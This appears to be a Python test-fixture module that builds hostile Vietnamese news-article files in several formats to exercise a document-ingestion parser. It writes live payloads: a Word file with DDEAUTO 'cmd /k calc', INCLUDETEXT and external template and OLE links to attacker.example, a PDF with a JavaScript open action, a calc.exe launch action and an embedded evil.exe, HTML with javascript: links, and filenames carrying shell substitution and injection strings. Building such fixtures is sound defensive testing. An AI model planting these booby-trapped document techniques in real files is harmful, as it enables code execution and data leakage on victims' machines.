"""Hostile articles in each format that is read."""

from __future__ import annotations

import html
import io
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path

import pikepdf
from docx import Document

from attacks import Attack
from briefgen.render.pdf import import_weasyprint

# Enough plain words that a few control characters do not make the file a binary one.
FILLER = "Theo thông cáo, hai bên đã trao đổi về tình hình khu vực và quốc tế, và nhất trí tiếp tục duy trì các cơ chế đối thoại hiện có. "
NAMES = ("a b", "-rf", "=cmd", "<b>tên", "{{ 7 }}", "%2e%2e", "tê\u0301n", "x" * 200, "con.", "~", "$(touch x)", "a;b|c&d")


def sentence(attack: Attack, number: int) -> str:
    return (
        f"Ngày {number % 28 + 1}/3/2024, Bộ trưởng Ngoại giao Nga Sergei Lavrov khẳng định Nga coi trọng {attack.mark} {attack.words} "
        "trong quan hệ với ASEAN."
    )


def signed(attack: Attack, number: int) -> str:
    return f"Ngày {number % 28 + 1}/3/2024, tại Hà Nội, Nga và ASEAN đã ký Kế hoạch {attack.mark} {attack.words[:200]} giai đoạn 2024-2027."


def write_hostile_files(seeds: Path, attacks: Sequence[Attack]) -> None:
    for number, attack in enumerate(attacks):
        parts = (f"Nga và ASEAN: {attack.words[:200]}", sentence(attack, number), signed(attack, number), FILLER * 8)
        (seeds / f"{attack.name}.txt").write_text("\n\n".join(parts), encoding="utf-8", newline="")
        (seeds / f"{attack.name}.yaml").write_text(json.dumps(describe(attack, number)), encoding="utf-8")
    paragraphs = [sentence(attack, number) for number, attack in enumerate(attacks)]
    (seeds / "all-html.html").write_text(make_page(attacks, paragraphs), encoding="utf-8")
    (seeds / "all-md.md").write_text("# Nga và ASEAN\n\n" + "\n\n".join((*paragraphs, FILLER * 40)), encoding="utf-8", newline="")
    (seeds / "all-docx.docx").write_bytes(make_docx(paragraphs))
    (seeds / "all-pdf.pdf").write_bytes(make_pdf(attacks, paragraphs))
    for name in NAMES:
        (seeds / f"{name}.txt").write_text(f"Nga và ASEAN\n\n{sentence(Attack('name', name), 5)}\n\n{FILLER * 3}", encoding="utf-8")


def describe(attack: Attack, number: int) -> dict[str, str]:
    """A sidecar in JSON, which is YAML; control characters stand in it as escapes."""
    words = attack.words[:300]
    given = {"language": "vi", "published": f"2024-03-{number % 28 + 1:02}", "author": words, "address": words}
    return {**given, "outlet": f"Báo {attack.mark} {words}", "title": f"{attack.mark} {words}"}


def make_page(attacks: Sequence[Attack], paragraphs: Sequence[str]) -> str:
    """A saved page: the attacks as they are, live, and once more as words of the text."""
    live = "\n".join(f"<div>{attack.words}</div>" for attack in attacks if attack.name not in ("closing", "statement", "style", "xxe"))
    escaped = "\n".join(f"<p>{html.escape(paragraph)}</p>" for paragraph in paragraphs)
    head = '<meta property="og:title" content="{{ 7*7 }} &lt;script&gt;"><link rel="canonical" href="javascript:alert(1)">'
    data = json.dumps({"@type": "NewsArticle", "headline": "<script>\ud800", "author": {"name": "=cmd|x"}, "url": "http://[bad"})
    return (
        f'<html lang="vi"><head>{head}<script type="application/ld+json">{data}</script></head><body>'
        f"<h1>Nga và ASEAN</h1><article>{escaped}</article>{live}</body></html>"
    )


def make_docx(paragraphs: Sequence[str]) -> bytes:
    """A Word article with live fields, an outside template, an outside picture and an outside object, beside the attacks as words."""
    document = Document()
    document.add_heading("Nga và ASEAN", level=1)
    for paragraph in paragraphs:
        document.add_paragraph(
            "".join(letter for letter in paragraph if letter >= " " and not 0x7F <= ord(letter) < 0xA0 and letter != "\ufffe")
        )
    made = io.BytesIO()
    document.save(made)
    changed = io.BytesIO()
    with zipfile.ZipFile(made) as old, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, _poison(name, old.read(name)))
    return changed.getvalue()


def _poison(name: str, content: bytes) -> bytes:
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    if name == "word/_rels/document.xml.rels":
        links = b"".join(
            b'<Relationship Id="evil%d" Type="%s/%s" Target="http://attacker.example/%d" TargetMode="External"/>' % (at, kind, what, at)
            for at, what in enumerate((b"attachedTemplate", b"image", b"oleObject", b"frame", b"hyperlink"))
        )
        return content.replace(b"</Relationships>", links + b"</Relationships>")
    if name == "word/document.xml":
        mark = b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
        field = b"<w:p>" + mark % b"begin" + b"<w:r><w:instrText>%s</w:instrText></w:r>" + mark % b"end" + b"</w:p>"
        fields = b"".join(field % one for one in (b'DDEAUTO cmd "/k calc"', b'INCLUDETEXT "http://attacker.example/x"'))
        return content.replace(b"<w:sectPr", fields + b"<w:sectPr", 1)
    return content


def make_pdf(attacks: Sequence[Attack], paragraphs: Sequence[str]) -> bytes:
    """A PDF article with scripts, a launch action, an outside link and a file within, beside the attacks as words."""
    shown = "".join(f"<p>{html.escape(paragraph[:400])}</p>" for paragraph in paragraphs[:12])
    plain = import_weasyprint().HTML(string=f"<h1>Nga và ASEAN</h1>{shown}").write_pdf()
    with pikepdf.open(io.BytesIO(plain)) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        pdf.Root.OpenAction = script
        pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("x"), script]))
        pdf.attachments["evil.exe"] = b"MZ"
        made = io.BytesIO()
        pdf.save(made)
    return made.getvalue()
